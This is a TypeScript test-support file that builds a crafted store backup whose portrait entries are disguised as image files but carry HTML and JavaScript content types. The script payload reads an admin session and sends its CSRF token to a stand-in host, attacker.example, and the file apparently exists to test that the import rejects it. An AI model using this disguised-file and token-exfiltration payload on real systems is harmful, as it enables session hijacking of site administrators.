// Test support: the portrait entries of a crafted backup. Named like a
// portrait's files, but one is a page whose script is the other, and each
// claims the content type that would make a browser run it.
import type { Store } from "../store/open-store";
import { type StoreExport } from "../store/transfer/transfer";
import { exportStore } from "./whole-export";
import type { PortraitExport } from "../store/transfer/transfer-portraits";
import { writeSampleContent } from "./sample-content";
import { insertPending, validSubmission } from "./sample-submission";

const HOSTILE_ID = "bad0".repeat(8);
export const HOSTILE_PAGE = `${HOSTILE_ID}-320.jpg`;
export const HOSTILE_SCRIPT = `${HOSTILE_ID}-640.webp`;

const entry = (name: string, contentType: string, text: string) => ({
  name,
  contentType,
  bytes: Buffer.from(text).toString("base64"),
});

export const hostilePortraits = (): PortraitExport[] => [
  entry(
    HOSTILE_PAGE,
    "text/html",
    `<!doctype html><script src="/portrait/${HOSTILE_SCRIPT}"></script>`,
  ),
  entry(
    HOSTILE_SCRIPT,
    "text/javascript",
    'fetch("/api/admin/session").then((r) => r.json()).then((s) => navigator.sendBeacon("https://attacker.example", s.csrfToken));',
  ),
];

/**
 * A backup of a store with content, a testimonial and its portrait's files,
 * followed by the hostile ones: refused at `portraits[2]`, the page.
 */
export async function hostileBackup(store: Store): Promise<StoreExport> {
  await writeSampleContent(store);
  await insertPending(store.db, validSubmission(), null);
  const data = await exportStore(store);
  return { ...data, portraits: [...data.portraits, ...hostilePortraits()] };
}
